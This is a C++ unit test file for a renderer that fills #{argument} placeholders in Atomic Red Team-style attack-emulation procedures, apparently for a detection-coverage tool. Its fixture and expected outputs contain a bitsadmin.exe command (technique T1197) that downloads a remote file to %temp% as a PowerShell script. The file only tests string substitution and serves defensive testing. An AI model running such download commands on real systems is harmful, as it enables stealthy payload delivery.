#include "ingest/atomics/render.h"

#include <string>
#include <vector>

#include "gmock/gmock.h"
#include "gtest/gtest.h"

namespace cov::ingest::atomics {
namespace {

using ::testing::ElementsAre;
using ::testing::IsEmpty;

cov::v1::TestProcedure BitsTest() {
  cov::v1::TestProcedure t;
  t.set_command(
      "bitsadmin.exe /transfer /Download /priority Foreground #{remote_file} "
      "#{local_file}\n");
  t.set_cleanup_command("del #{local_file} >nul 2>&1\n");
  cov::v1::InputArgument* a = t.add_input_arguments();
  a->set_name("remote_file");
  a->set_default_value("https://example.test/T1197.md");
  a = t.add_input_arguments();
  a->set_name("local_file");
  a->set_default_value("%temp%\\bitsadmin1_flag.ps1");
  return t;
}

TEST(ReferencedArgumentsTest, DistinctInFirstUseOrder) {
  EXPECT_THAT(ReferencedArguments("#{b} x #{a} #{b} #{first.target.ip}"),
              ElementsAre("b", "a", "first.target.ip"));
}

TEST(ReferencedArgumentsTest, IgnoresNonReferences) {
  // Empty name, unterminated, a line break inside, PowerShell hashtables.
  EXPECT_THAT(ReferencedArguments("#{} #{a\nb} @{x=1} #{open"), IsEmpty());
  EXPECT_THAT(ReferencedArguments("#{#{x}"), ElementsAre("#{x"));
}

TEST(RenderTest, DefaultsSubstituted) {
  const cov::v1::TestProcedure t = BitsTest();
  EXPECT_EQ(RenderCommand(t),
            "bitsadmin.exe /transfer /Download /priority Foreground "
            "https://example.test/T1197.md %temp%\\bitsadmin1_flag.ps1\n");
  EXPECT_EQ(RenderCleanup(t), "del %temp%\\bitsadmin1_flag.ps1 >nul 2>&1\n");
}

TEST(RenderTest, OverridesWinOverDefaults) {
  const cov::v1::TestProcedure t = BitsTest();
  ArgumentOverrides o = {{"local_file", "C:\\x.ps1"}};
  EXPECT_EQ(RenderCleanup(t, o), "del C:\\x.ps1 >nul 2>&1\n");
  EXPECT_EQ(RenderCommand(t, o),
            "bitsadmin.exe /transfer /Download /priority Foreground "
            "https://example.test/T1197.md C:\\x.ps1\n");
}

TEST(RenderTest, UndefinedLeftAsWrittenAndReported) {
  cov::v1::TestProcedure t = BitsTest();
  t.set_command("#{remote_file} #{missing} #{other} #{missing}");
  std::vector<std::string> unresolved;
  EXPECT_EQ(RenderCommand(t, {}, &unresolved),
            "https://example.test/T1197.md #{missing} #{other} #{missing}");
  EXPECT_THAT(unresolved, ElementsAre("missing", "other"));
  // An override may supply a name the test does not define.
  unresolved.clear();
  EXPECT_EQ(RenderCommand(t, {{"missing", "M"}}, &unresolved),
            "https://example.test/T1197.md M #{other} M");
  EXPECT_THAT(unresolved, ElementsAre("other"));
}

TEST(RenderTest, OnePassAndEmptyDefault) {
  cov::v1::TestProcedure t;
  t.set_command("[#{a}][#{b}]");
  cov::v1::InputArgument* a = t.add_input_arguments();
  a->set_name("a");
  a->set_default_value("#{b}");  // not expanded again
  a = t.add_input_arguments();
  a->set_name("b");  // null default renders empty
  EXPECT_EQ(RenderCommand(t), "[#{b}][]");
}

TEST(RenderTest, TextWithoutReferencesUnchanged) {
  const cov::v1::TestProcedure t = BitsTest();
  EXPECT_EQ(RenderText("echo @{a=1} #{ #", t, {}), "echo @{a=1} #{ #");
  EXPECT_EQ(RenderText("", t, {}), "");
}

}  // namespace
}  // namespace cov::ingest::atomics
